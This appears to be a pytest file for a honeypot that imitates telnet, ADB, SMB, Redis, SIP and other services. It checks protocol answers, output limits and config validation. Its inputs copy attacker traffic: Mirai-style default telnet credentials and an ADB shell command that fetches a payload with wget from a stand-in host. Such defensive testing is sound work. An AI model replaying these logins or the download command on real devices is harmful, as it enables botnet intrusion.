"""What is declared in data/services is right in itself, and answers as its protocol says."""

from __future__ import annotations

import struct
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teiten.errors import UsageError
from teiten.respond import services
from teiten.respond.conversation import HEAD, SHAKEN, Bounds, Conversation
from teiten.respond.record import Ends

KNOWN = services.load()
NAMES = sorted({service.name for service in KNOWN.by_port.values()})
PORTS = {service.name: port for port, service in KNOWN.by_port.items()}


def talk(port: int, **bounds: Any) -> Conversation:
    return Conversation(Ends("0" * 16, "192.0.2.7", 40000, "198.51.100.1", port, "none"), KNOWN, Bounds(**bounds))


def said(port: int, *messages: bytes) -> list[bytes]:
    one = talk(port)
    return [one.opened(1e9).answer, *(one.heard(m, 1e9 + n).answer for n, m in enumerate(messages))]


def test_every_file_is_read_and_has_its_source() -> None:
    import tomllib

    folder = resources.files("teiten.data") / "services"
    files = [one for one in folder.iterdir() if one.name.endswith(".toml")]
    assert {one.name[:-5] for one in files} == set(NAMES)
    for one in files:
        table = tomllib.loads(one.read_text("utf-8"))
        assert table["name"] == one.name[:-5] and table["source"] and table["en"] and table["ja"], one.name
    asked = {
        80: "http", 23: "telnet", 22: "ssh", 445: "smb", 554: "rtsp", 5555: "adb", 6379: "redis", 2375: "docker", 52869: "soap",
        37215: "soap", 9530: "xiongmai", 5060: "sip",
    }  # fmt: skip
    assert {port: KNOWN.at(port).name for port in asked} == asked


def test_telnet_lets_nobody_in() -> None:
    assert said(23, b"\xff\xfc\x01root\r\n", b"xc3511\r\0", b"admin\r\n", b"admin\n", b"x\n") == [
        b"login: ", *[b"Password: ", b"\r\nLogin incorrect\r\nlogin: "] * 2, b"Password: ",
    ]  # fmt: skip


def test_a_message_in_pieces_and_several_at_once() -> None:
    whole = b"POST /picdesc.xml HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"
    one = talk(52869)
    answers = [one.heard(whole[n : n + 1], 1.0).answer for n in range(len(whole))]
    assert [a for a in answers if a] == [b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"] and answers[-1]
    twice = talk(52869).heard(whole * 2, 1.0)
    assert twice.answer == answers[-1] * 2 and len(twice.records) == 1
    assert said(6379, b"*1\r\n$4\r\nPING\r\n")[1] == b"+PONG\r\n"


def test_adb_answers_open_with_the_senders_number() -> None:
    connect = struct.pack("<6I", 0x4E584E43, 0x01000000, 4096, 7, 562, 0xB1A7B1BC) + b"host::\0"
    shell = b"shell:cd /data/local/tmp; wget http://192.0.2.1/x\0"
    opened = struct.pack("<6I", 0x4E45504F, 77, 0, len(shell), sum(shell), 0x4E45504F ^ 0xFFFFFFFF) + shell
    first, second = said(5555, connect, opened)[1:]
    assert first[:4] == b"CNXN" and struct.unpack("<6I", first[:24])[3:5] == (9, sum(first[24:]))
    assert struct.unpack("<6I", second) == (0x59414B4F, 1, 77, 0, 0, 0x59414B4F ^ 0xFFFFFFFF)


def test_smb_agrees_on_a_dialect_and_refuses_to_log_on() -> None:
    names = b"".join(b"\x02" + n + b"\0" for n in (b"PC NETWORK PROGRAM 1.0", b"LANMAN1.0", b"NT LM 0.12"))
    head = b"\xffSMB\x72" + bytes(4) + b"\x18\x01\x28" + bytes(12) + b"\xff\xff\x2f\x4b\x00\x00\x05\x00"
    asked = head + b"\0" + len(names).to_bytes(2, "little") + names
    first, second = said(
        445, b"\0" + len(asked).to_bytes(3, "big") + asked, b"\0\0\0\x23" + asked[:4] + b"\x73" + asked[5:32] + b"\0\0\0"
    )[1:]
    assert int.from_bytes(first[1:4], "big") == len(first) - 4 and first[4:9] == b"\xffSMB\x72"
    assert first[28:36] == head[24:32] and first[36] == 17 and first[37:39] == b"\x02\0"
    assert int.from_bytes(second[1:4], "big") == len(second) - 4
    assert second[8] == 0x73 and struct.unpack("<I", second[9:13]) == (0xC000006D,)


def test_headers_are_given_back_harmless() -> None:
    asked = (
        b"OPTIONS sip:x SIP/2.0\r\nVia: SIP/2.0/TCP 192.0.2.7\r\nFrom: <a>\r\nTo: <b>\r\nCall-ID: 7\r\nCSeq: 1 OPTIONS\r\n\r\n"
    )
    answer = said(5060, asked)[1]
    assert b"Via: SIP/2.0/TCP 192.0.2.7\r\n" in answer and b"CSeq: 1 OPTIONS\r\n" in answer
    bent = said(554, b"OPTIONS * RTSP/1.0\r\nCSeq: 1\x1b[2J\x00\rX: y\r\n\r\n")[1]
    assert b"CSeq: 1[2JX: y\r\n" in bent


WORDS = (
    b"GET / HTTP/1.0\r\n\r\n", b"PING\r\n", b"CNXN" + bytes(20), b"\0\0\0\x24\xffSMBr" + bytes(31), b"\n",
    b"OPTIONS * SIP/2.0\r\nVia: " + b"v" * 200 + b"\r\n\r\n",
)  # fmt: skip


@given(
    st.sampled_from([*PORTS.values(), 1]),
    st.lists(st.one_of(st.binary(max_size=300), st.sampled_from(WORDS)), max_size=12),
)
def test_no_answer_is_larger_than_what_it_answers(port: int, pieces: list[bytes]) -> None:
    """Promise 18: all that was said never exceeds what the other side has sent, its packets' headers included."""
    one = talk(port)
    sent = len(one.opened(0.0).answer)
    received = SHAKEN
    assert sent <= received
    for piece in pieces:
        step = one.heard(piece, 1.0)
        received += HEAD + len(piece)
        sent += len(step.answer)
        assert sent == one.sent <= received
        if step.close:
            break


def test_what_is_wrong_with_a_file(tmp_path: Path) -> None:
    for text, why in (
        ('nam = "x"', "'nam' is unknown"),
        ('ports = ["x"]', "ports is a list of numbers"),
        ('whole = "page"', "whole is one of any"),
        ('[[say]]\nanswer = "<<eval 1>>"', "<<eval>> is unknown"),
        ('[[say]]\nanswer = "<<bytes a b>>"', "wants two numbers"),
        ('greeting = "日本"', r"beyond U\+00FF"),
        ("[[say]", "Expected"),
        ('[[say]]\nstarts = ["(a+)+$"]', "must be a text"),
    ):
        (tmp_path / "own.toml").write_text(text, "utf-8")
        with pytest.raises(UsageError, match=why):
            services.load((tmp_path,))
    (tmp_path / "own.toml").write_text('ports = [23]\ngreeting = "hello"', "utf-8")
    assert services.load((tmp_path,)).at(23).greeting == b"hello"
